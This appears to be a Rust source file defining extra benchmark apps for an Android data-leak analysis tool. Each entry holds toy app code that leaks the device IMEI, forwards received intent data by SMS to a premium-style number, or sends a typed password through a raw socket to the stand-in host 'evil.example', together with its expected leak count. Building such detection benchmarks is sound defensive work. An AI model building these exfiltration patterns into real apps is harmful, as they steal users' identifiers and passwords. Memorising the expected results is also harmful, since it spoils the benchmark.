//! Extended suite (beyond Table 1): apps exercising mechanisms the
//! paper describes but the 35 table apps touch only lightly — chained
//! callback registration (the §3 fixed point), bound services, content
//! providers, receivers forwarding received data, and multi-hop
//! private-data exfiltration.

use super::with_imei;
use crate::{single_activity_manifest, BenchApp, Category};

pub fn apps() -> Vec<BenchApp> {
    vec![
        callback_chain1(),
        intent_source1(),
        service_bound1(),
        provider_query1(),
        private_data_leak3(),
        unregistered_component(),
    ]
}

/// A callback handler registers *another* callback whose handler leaks —
/// exactly the case §3 gives for iterating discovery to a fixed point
/// ("callback handlers are free to register new callbacks on their
/// own").
fn callback_chain1() -> BenchApp {
    let code = r#"
class dbext.cc1.Main extends android.app.Activity {
  method onCreate(b: android.os.Bundle) -> void {
    let v: android.view.View
    let l1: dbext.cc1.First
    v = virtualinvoke this.<android.app.Activity: android.view.View findViewById(int)>(1000)
    l1 = new dbext.cc1.First
    specialinvoke l1.<dbext.cc1.First: void <init>()>()
    virtualinvoke v.<android.view.View: void setOnClickListener(android.view.View$OnClickListener)>(l1)
    return
  }
}
class dbext.cc1.First extends java.lang.Object implements android.view.View$OnClickListener {
  method <init>() -> void {
    return
  }
  method onClick(v: android.view.View) -> void {
    let l2: dbext.cc1.Second
    l2 = new dbext.cc1.Second
    specialinvoke l2.<dbext.cc1.Second: void <init>()>()
    virtualinvoke v.<android.view.View: void setOnLongClickListener(android.view.View$OnLongClickListener)>(l2)
    return
  }
}
class dbext.cc1.Second extends java.lang.Object implements android.view.View$OnLongClickListener {
  method <init>() -> void {
    return
  }
  method onLongClick(v: android.view.View) -> boolean {
    let o: java.lang.Object
    let tm: android.telephony.TelephonyManager
    let id: java.lang.String
    let ctx: android.content.Context
    o = null
    tm = (android.telephony.TelephonyManager) o
    id = virtualinvoke tm.<android.telephony.TelephonyManager: java.lang.String getDeviceId()>()
    staticinvoke <android.util.Log: int i(java.lang.String,java.lang.String)>("T", id)
    return 0
  }
}
"#
    .to_owned();
    BenchApp {
        name: "CallbackChain1",
        category: Category::Supplementary,
        in_table: false,
        expected_leaks: 1,
        description:
            "a callback registers another callback whose handler leaks (fixed-point discovery)",
        manifest: single_activity_manifest("dbext.cc1", "Main"),
        layouts: vec![],
        code,
    }
}

/// A broadcast receiver forwards the data it receives via SMS — both a
/// parameter source and an exfiltration sink.
fn intent_source1() -> BenchApp {
    let manifest = r#"<manifest package="dbext.is1">
  <application>
    <receiver android:name=".Fwd" android:exported="true"/>
  </application>
</manifest>"#
        .to_owned();
    let code = r#"
class dbext.is1.Fwd extends android.content.BroadcastReceiver {
  method onReceive(c: android.content.Context, i: android.content.Intent) -> void {
    let s: java.lang.String
    let sms: android.telephony.SmsManager
    s = virtualinvoke i.<android.content.Intent: java.lang.String getStringExtra(java.lang.String)>("payload")
    sms = staticinvoke <android.telephony.SmsManager: android.telephony.SmsManager getDefault()>()
    virtualinvoke sms.<android.telephony.SmsManager: void sendTextMessage(java.lang.String,java.lang.String,java.lang.String,java.lang.Object,java.lang.Object)>("+prem", null, s, null, null)
    return
  }
}
"#
    .to_owned();
    BenchApp {
        name: "IntentSource1",
        category: Category::Supplementary,
        in_table: false,
        expected_leaks: 1,
        description: "receiver forwards received intent data via SMS (the paper's malware pattern)",
        manifest,
        layouts: vec![],
        code,
    }
}

/// A bound service acquires the IMEI in onBind and leaks it in
/// onDestroy.
fn service_bound1() -> BenchApp {
    let manifest = r#"<manifest package="dbext.sb1">
  <application>
    <service android:name=".Bound"/>
  </application>
</manifest>"#
        .to_owned();
    let code = with_imei(
        r#"
class dbext.sb1.Bound extends android.app.Service {
  field im: java.lang.String
  method onBind(i: android.content.Intent) -> java.lang.Object {
"#,
        r#"    this.im = id
    return null
  }
  method onDestroy() -> void {
    let t: java.lang.String
    t = this.im
    staticinvoke <android.util.Log: int i(java.lang.String,java.lang.String)>("T", t)
    return
  }
}
"#,
    );
    BenchApp {
        name: "ServiceBound1",
        category: Category::Supplementary,
        in_table: false,
        expected_leaks: 1,
        description: "bound service stores the IMEI in onBind, leaks in onDestroy",
        manifest,
        layouts: vec![],
        code,
    }
}

/// A content provider leaks the IMEI when queried.
fn provider_query1() -> BenchApp {
    let manifest = r#"<manifest package="dbext.pq1">
  <application>
    <provider android:name=".Store"/>
  </application>
</manifest>"#
        .to_owned();
    let code = with_imei(
        r#"
class dbext.pq1.Store extends android.content.ContentProvider {
  method query(sel: java.lang.String) -> java.lang.Object {
"#,
        r#"    staticinvoke <android.util.Log: int i(java.lang.String,java.lang.String)>("T", id)
    return null
  }
}
"#,
    );
    BenchApp {
        name: "ProviderQuery1",
        category: Category::Supplementary,
        in_table: false,
        expected_leaks: 1,
        description: "content provider leaks on query",
        manifest,
        layouts: vec![],
        code,
    }
}

/// The password travels through two helper classes before reaching a
/// raw socket — a deeper multi-hop variant of PrivateDataLeak.
fn private_data_leak3() -> BenchApp {
    let layout = r#"<L><EditText android:id="@+id/pwd" android:inputType="textPassword"/>
<Button android:id="@+id/go" android:onClick="exfil"/></L>"#;
    let code = r#"
class dbext.pdl3.Codec extends java.lang.Object {
  method <init>() -> void {
    return
  }
  method wrap(x: java.lang.String) -> java.lang.String {
    let r: java.lang.String
    r = "[" + x
    r = r + "]"
    return r
  }
}
class dbext.pdl3.Uploader extends java.lang.Object {
  method <init>() -> void {
    return
  }
  method send(x: java.lang.String) -> void {
    let sock: java.net.Socket
    let os: java.io.OutputStream
    sock = new java.net.Socket
    specialinvoke sock.<java.net.Socket: void <init>(java.lang.String,int)>("evil.example", 443)
    os = virtualinvoke sock.<java.net.Socket: java.io.OutputStream getOutputStream()>()
    virtualinvoke os.<java.io.OutputStream: void write(java.lang.String)>(x)
    return
  }
}
class dbext.pdl3.Main extends android.app.Activity {
  method onCreate(b: android.os.Bundle) -> void {
    virtualinvoke this.<android.app.Activity: void setContentView(int)>(@layout/main)
    return
  }
  method exfil(v: android.view.View) -> void {
    let w: android.view.View
    let p: java.lang.String
    let c: dbext.pdl3.Codec
    let u: dbext.pdl3.Uploader
    w = virtualinvoke this.<android.app.Activity: android.view.View findViewById(int)>(@id/pwd)
    p = virtualinvoke w.<android.widget.TextView: java.lang.String getText()>()
    c = new dbext.pdl3.Codec
    specialinvoke c.<dbext.pdl3.Codec: void <init>()>()
    p = virtualinvoke c.<dbext.pdl3.Codec: java.lang.String wrap(java.lang.String)>(p)
    u = new dbext.pdl3.Uploader
    specialinvoke u.<dbext.pdl3.Uploader: void <init>()>()
    virtualinvoke u.<dbext.pdl3.Uploader: void send(java.lang.String)>(p)
    return
  }
}
"#
    .to_owned();
    BenchApp {
        name: "PrivateDataLeak3",
        category: Category::Supplementary,
        in_table: false,
        expected_leaks: 1,
        description: "password through two helper classes to a raw socket",
        manifest: single_activity_manifest("dbext.pdl3", "Main"),
        layouts: vec![("main", layout)],
        code,
    }
}

/// A leaking activity class exists in the code but is never declared in
/// the manifest — it has no lifecycle and must not be analyzed.
fn unregistered_component() -> BenchApp {
    let code = with_imei(
        r#"
class dbext.uc1.Main extends android.app.Activity {
  method onCreate(b: android.os.Bundle) -> void {
    return
  }
}
class dbext.uc1.Ghost extends android.app.Activity {
  method onCreate(b: android.os.Bundle) -> void {
"#,
        r#"    staticinvoke <android.util.Log: int i(java.lang.String,java.lang.String)>("T", id)
    return
  }
}
"#,
    );
    BenchApp {
        name: "UnregisteredComponent",
        category: Category::Supplementary,
        in_table: false,
        expected_leaks: 0,
        description: "leaking activity absent from the manifest never runs",
        manifest: single_activity_manifest("dbext.uc1", "Main"),
        layouts: vec![],
        code,
    }
}
